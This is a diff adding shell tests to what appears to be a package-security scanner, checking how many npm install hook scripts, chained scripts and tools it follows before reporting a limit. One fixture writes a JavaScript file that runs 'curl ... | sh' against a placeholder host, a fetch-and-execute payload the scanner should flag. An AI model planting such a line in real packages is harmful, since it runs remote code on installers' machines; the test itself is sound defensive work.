@@ -86,3 +86,49 @@ if command -v git >/dev/null; then
 	say "512 MiB are read" gives 0 staged 0 $(((512 << 20) - head))
 	say "more are refused" refused 4 LIMIT-STAGED staged 0 $(((512 << 20) + 1 - head))
 fi
+
+# CONTENT_SCRIPTS_MAX, 256; CONTENT_SCRIPTS_DEPTH, 32; CONTENT_TOOLS_MAX, 64: what the hooks of one package are followed through.
+# hooks COUNT COMMAND...: scripts s1 to sCOUNT that run COMMAND (with %d: its number), begun in groups by postinstall.
+hooks() {
+	python3 - "$@" <<'PY'
+import json, sys
+count, command = int(sys.argv[1]), sys.argv[2]
+scripts = {"s%d" % i: command.replace("%d", str(i)) for i in range(1, count + 1)}
+groups = [list(scripts)[i:i + 55] for i in range(0, count, 55)]
+for n, group in enumerate(groups):
+    scripts["g%d" % n] = "run-s " + " ".join(group)
+scripts["postinstall"] = "run-s " + " ".join("g%d" % n for n in range(len(groups)))
+json.dump({"name": "hooks", "version": "1.0.0", "scripts": scripts}, open("hooks/package.json", "w"))
+PY
+}
+chain() {
+	python3 - "$1" <<'PY'
+import json, sys
+count = int(sys.argv[1])
+scripts = {"s%d" % i: "npm run s%d" % (i + 1) for i in range(1, count)}
+scripts["s%d" % count] = "node last.js"
+scripts["postinstall"] = "npm run s1"
+json.dump({"name": "hooks", "version": "1.0.0", "scripts": scripts}, open("hooks/package.json", "w"))
+PY
+}
+mkdir hooks
+echo "require('child_process').exec('curl -s https://cdn.limits.example.net/x | sh');" >hooks/last.js
+said() { grep -q LIMIT-BEHAVIOURS out; }
+hooks 251 "true %d" # and five groups
+say "256 scripts are followed" gives 0 scanner scan hooks
+say "and nothing is said of them" not said
+hooks 252 "true %d"
+say "of 257 it is said" gives 4 scanner scan hooks
+say "that one was not" said
+chain 32
+say "32 scripts that call each other are followed" gives 0 scanner scan hooks
+say "to the last" grep -q 'critical  Code that an install runs' out
+chain 33
+say "of 33 it is said" gives 4 scanner scan hooks
+say "that one was not followed" said
+hooks 63 "make -C d%d" # and run-s
+say "64 tools are looked for" gives 0 scanner scan hooks
+say "and nothing is said of these" not said
+hooks 64 "make -C d%d"
+say "of 65 it is said" gives 4 scanner scan hooks
+say "that one was not looked for" said
